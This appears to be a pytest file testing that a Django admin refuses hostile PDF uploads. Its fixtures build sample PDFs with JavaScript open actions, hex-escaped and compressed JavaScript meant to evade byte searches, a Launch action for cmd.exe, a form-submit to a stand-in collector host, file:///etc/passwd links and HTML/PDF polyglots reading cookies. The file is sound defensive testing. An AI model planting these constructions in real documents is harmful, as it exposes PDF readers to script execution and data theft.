"""Hostile PDFs are refused through the admin with a form error saying what was found.

Each file is a real PDF written by pikepdf with the hostile object put in, so the check is
tested against what a PDF reader would see, not against a pattern in the bytes.
"""

from http import HTTPStatus
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from publications.models import Publication
from tests.support.admin_forms import publication_form_data

pytestmark = pytest.mark.django_db

ACTIVE = "This PDF contains active content"
POLYGLOT = "This file is a PDF joined to something else"
DAMAGED = "This PDF is incomplete or damaged"


def write(pdf, **options):
    output = BytesIO()
    pdf.save(output, **options)
    return output.getvalue()


def plain_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def with_catalog_entry(key, value, **options):
    pdf = plain_pdf()
    pdf.Root[key] = value
    return write(pdf, **options)


def with_link(action):
    """One page with a link annotation that runs `action` when clicked."""
    pdf = plain_pdf()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=action)
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return write(pdf)


def javascript_action():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def hex_escaped_javascript():
    """An opening action whose names are written /Java#53cript and /J#53: the same names to
    a PDF reader, invisible to a search for the bytes "/JavaScript" or "/JS"."""
    action = Dictionary({"/S": Name("/JavaQQQcript"), "/JQQQ": String("app.alert(1)")})
    content = with_catalog_entry(
        "/OpenAction", action, object_stream_mode=pikepdf.ObjectStreamMode.disable
    )
    # Same lengths, so the cross-reference table stays right.
    content = content.replace(b"/JavaQQQcript", b"/Java#53cript").replace(b"/JQQQ", b"/J#53")
    assert b"JavaScript" not in content
    assert b"/JS" not in content
    return content


def javascript_in_object_stream():
    """JavaScript in a names tree, written inside a compressed object stream."""
    pdf = plain_pdf()
    script = pdf.make_indirect(javascript_action())
    pdf.Root.Names = pdf.make_indirect(
        Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script])))
    )
    content = write(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in content
    return content


def with_automatic_action():
    pdf = plain_pdf()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))
    return write(pdf)


def with_attached_file():
    pdf = plain_pdf()
    pdf.attachments["notes.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program")
    return write(pdf)


def with_file_attachment_annotation():
    pdf = plain_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="notes.exe")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec.obj
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
    return write(pdf)


def html_then_pdf():
    header, rest = write(plain_pdf()).split(b"\n", 1)
    return header + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def pdf_then_html():
    return write(plain_pdf()) + b"<html><body><script>alert(document.cookie)</script></body>\n"


def pdf_header_on_a_web_page():
    return b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"


def pdf_header_on_noise():
    return b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def ordinary_features():
    """What real exports carry and is harmless: a table-of-contents link within the document,
    an opening view, a transparency group, page labels, a tagged structure with attributes."""
    pdf = plain_pdf()
    page = pdf.pages[0]
    page.Group = Dictionary(S=Name.Transparency, CS=Name.DeviceRGB)
    pdf.Root.OpenAction = Array([page.obj, Name.Fit])
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    element = Dictionary(S=Name.P, K=0, A=Dictionary(O=Name.Layout, S=Name.Hidden))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=pdf.make_indirect(element))
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 50, 50],
        A=Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])),
    )
    page.Annots = Array([pdf.make_indirect(link)])
    return write(pdf)


@pytest.fixture
def send_pdf(client, admin_user):
    """Adds a publication with this PDF through the admin: the response, and the stored file
    (None when nothing was stored)."""
    client.force_login(admin_user)

    def send(content):
        upload = SimpleUploadedFile("report.pdf", content, content_type="application/pdf")
        response = client.post(
            reverse("admin:publications_publication_add"), publication_form_data(pdf=upload)
        )
        publication = Publication.objects.filter(slug="a-new-brief").first()
        return response, publication.pdf if publication else None

    return send


def assert_refused(response, stored, message, media_root):
    assert response.status_code == HTTPStatus.OK
    assert message in response.content.decode()
    assert stored is None
    assert [path for path in Path(media_root).rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(
    ("make_file", "named"),
    [
        (lambda: with_catalog_entry("/OpenAction", javascript_action()), "JavaScript"),
        (hex_escaped_javascript, "JavaScript"),
        (javascript_in_object_stream, "JavaScript"),
        (
            lambda: with_catalog_entry(
                "/OpenAction", Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
            ),
            "an action run on opening",
        ),
        (with_automatic_action, "actions that run by themselves"),
        (
            lambda: with_link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
            "actions that open other programs",
        ),
        (
            lambda: with_link(
                Dictionary(S=Name.SubmitForm, F=String("https://collector.example/"))
            ),
            "actions that send form data",
        ),
        (
            lambda: with_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
            "links to addresses other than web pages or email",
        ),
        (
            lambda: with_link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
            "links to addresses other than web pages or email",
        ),
        (with_attached_file, "attached files"),
        (with_file_attachment_annotation, "attached files"),
    ],
    ids=[
        "javascript open action",
        "hex-escaped javascript",
        "javascript in a compressed object stream",
        "open action",
        "automatic action",
        "launch action",
        "submit-form action",
        "javascript: link",
        "file: link",
        "embedded file",
        "file attachment annotation",
    ],
)
def test_pdf_with_active_content_is_refused_naming_it(send_pdf, media_root, make_file, named):
    response, stored = send_pdf(make_file())

    assert_refused(response, stored, ACTIVE, media_root)
    assert named in response.content.decode()


@pytest.mark.parametrize(
    "make_file",
    [html_then_pdf, pdf_then_html, pdf_header_on_a_web_page],
    ids=["html before the document", "html after the document", "pdf header on a web page"],
)
def test_pdf_joined_to_a_web_page_is_refused(send_pdf, media_root, make_file):
    response, stored = send_pdf(make_file())

    assert_refused(response, stored, POLYGLOT, media_root)


def test_file_a_pdf_reader_cannot_parse_is_refused_as_damaged(send_pdf, media_root):
    response, stored = send_pdf(pdf_header_on_noise())

    assert_refused(response, stored, DAMAGED, media_root)


@pytest.mark.parametrize(
    "make_file",
    [
        lambda: write(plain_pdf()),
        ordinary_features,
        lambda: with_link(Dictionary(S=Name.URI, URI=String("https://example.org/report"))),
    ],
    ids=["plain pdf", "links within the document, opening view, tags", "web link"],
)
def test_harmless_pdf_is_accepted_and_stored(send_pdf, make_file):
    response, stored = send_pdf(make_file())

    assert response.status_code == HTTPStatus.FOUND
    assert stored.name.endswith(".pdf")
